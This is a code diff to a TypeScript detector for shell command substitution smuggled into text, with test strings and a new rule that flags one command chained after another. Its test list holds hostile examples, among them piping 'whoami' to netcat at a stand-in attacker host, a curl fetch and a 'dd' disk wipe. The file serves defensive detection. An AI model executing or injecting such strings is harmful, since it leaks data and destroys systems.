@@ -42,6 +42,8 @@ export const substitution: ValueRule = {
     'It ends with $(curl http://evil.example.com/) as usual',
     'It ends with $(whoami | nc evil.example.com 80) as usual',
     'It ends with $(wh""oami) as usual',
+    'It ends with $(pwd;touch a) as usual',
+    'It ends with $(date +%F && touch a) as usual',
     '$(dd if=/dev/zero of=/dev/sda)',
     '$(nice -n 5 sleep $((0x5)))',
     '$(x=5 touch uploads/tea.sh)',
@@ -80,6 +82,8 @@ export const substitution: ValueRule = {
     "the shell puts the folder in place of '$(pwd)' and goes on",
     'It ends with $(uname -r) as usual',
     'In a script, DIR=$(cd "$(dirname "$0")" && pwd) is the usual way to find the folder',
+    'files=$(find out -name a.png | head -20) in CI',
+    'It takes $(date|time) or $(pwd; then more) there',
     'Installing linux-headers-$(uname -r) solved the problem for me',
     'Please run sudo chown -R $(whoami) /usr/local and try again',
     'The log says:\n\nmodules for $(uname -r) are missing',
@@ -132,6 +136,7 @@ function closedScore(text: string, command: Command, isListed: boolean): number 
   if (command.fit >= fit.aloneWord && isBetweenQuotes(text, head.start, command.end + 1))
     return confidence.strong;
   if (isTold(text, command)) return confidence.hint;
+  if (runsMore(text, command)) return confidence.strong;
   const isPlaced = isPlacedAt(text, command) || isGlued(text, head.start);
   if (command.structured && isPlaced && command.fit >= fit.weak) return confidence.certain;
   switch (command.fit) {
@@ -158,6 +163,19 @@ function closedScore(text: string, command: Command, isListed: boolean): number 
       return 0;
   }
 }
+
+/**
+ * `$(pwd;touch m)`: behind a command that only tells something a second one, which scripts do not
+ * write.
+ */
+function runsMore(text: string, { end, name: first }: Command): boolean {
+  if (!tellers.has(first)) return false;
+  const name = more.exec(text.slice(end, end + moreCharsMax))?.[1]?.toLowerCase() ?? '';
+  return usesOf(name) !== 0 && !tellers.has(name) && !developerTools.has(name);
+}
+
+const moreCharsMax = 100;
+const more = /^ {0,2}(?:;|&&?|\n)\s{0,4}([a-z][\w-]{1,20})(?:\s[^()]{0,60})?\)/i;
 
 /**
  * `It ends with $(uname -r) as usual`: within a sentence, and all that the command does is to name
